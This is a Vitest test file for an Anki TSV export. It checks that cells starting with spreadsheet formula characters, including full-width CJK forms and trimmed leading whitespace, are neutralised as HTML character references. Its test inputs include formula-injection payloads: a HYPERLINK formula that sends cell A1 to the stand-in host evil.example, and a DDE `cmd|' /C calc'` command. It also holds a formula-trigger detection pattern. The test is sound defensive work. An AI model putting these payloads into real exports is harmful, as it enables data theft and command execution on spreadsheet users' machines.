/**
 * The TSV export opened in a spreadsheet: no cell starts (after spaces a spreadsheet may trim)
 * with a character that makes it a formula, while Anki, reading the cells as HTML, still shows
 * every field as it was.
 */
import { describe, expect, it } from "vitest";
import { TSV_FIELDS, tsvRow } from "@/lib/words/export/anki/tsv";

/** What OWASP lists as starting a formula, and the full-width forms CJK spreadsheets take as the same. */
const FORMULA_CHARS = ["=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
/** What may come before one and be trimmed by a spreadsheet: OWASP's tab and carriage return, spaces. */
const LEADS = ["", " ", "\t", "\r", "\r\n", "\t \t", "\u00A0", "\u3000"];
const SPREADSHEET_TRIGGER = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;

const note = (text: string) => ({
  guid: "Ab1",
  deck: "LingoReel::Spanish",
  tags: ["LingoReel", "es"],
  fields: Object.fromEntries([...TSV_FIELDS, "Audio"].map((f) => [f, text])) as Record<(typeof TSV_FIELDS)[number] | "Audio", string>,
});
const fieldCells = (text: string) => tsvRow(note(text)).slice(0, -1).split("\t").slice(0, TSV_FIELDS.length);
/** The HTML as Anki shows it: character references as their characters. */
const shown = (html: string) => html.replace(/&#(\d+);/g, (_all, code: string) => String.fromCodePoint(Number(code)));

describe("TSV cells in a spreadsheet", () => {
  it.each(FORMULA_CHARS.map((c) => [JSON.stringify(c), c]))("never start with %s, in any field, whatever tabs, returns or spaces come first", (_label, char) => {
    for (const lead of LEADS) {
      for (const text of [`${lead}${char}HYPERLINK("https://evil.example/?x="&A1,"Click")`, `${lead}${char}cmd|' /C calc'!A0`, `${lead}${char}`]) {
        for (const c of fieldCells(text)) expect(c, JSON.stringify(text)).not.toMatch(SPREADSHEET_TRIGGER);
      }
    }
  });

  it("show Anki the same text: the neutralised character is a character reference", () => {
    expect(fieldCells('=HYPERLINK("https://evil.example")')[0]).toBe('&#61;HYPERLINK("https://evil.example")');
    expect(fieldCells("-ción")[0]).toBe("&#45;ción");
    expect(fieldCells("\uFF1D\uFF11")[0]).toBe("&#65309;\uFF11");
    for (const start of FORMULA_CHARS) {
      for (const text of [`${start}suma`, `  ${start}suma`]) expect(shown(fieldCells(text)[0]!), text).toBe(text);
    }
    // A tab is a space and a line break is <br>, as before.
    expect(shown(fieldCells("\t=x")[0]!)).toBe(" =x");
    expect(fieldCells("\r\n=x")[0]).toBe("<br>=x");
  });

  it("leave ordinary text alone, and a formula character anywhere but at the start", () => {
    for (const text of ["leche", "café con leche", "a=b", "e-mail", "1+1", "user@example.com", "¿Qué?", "日本語", '<a href="u">v</a>', "&amp; more"]) {
      expect(fieldCells(text)).toEqual(Array(TSV_FIELDS.length).fill(text));
    }
  });
});
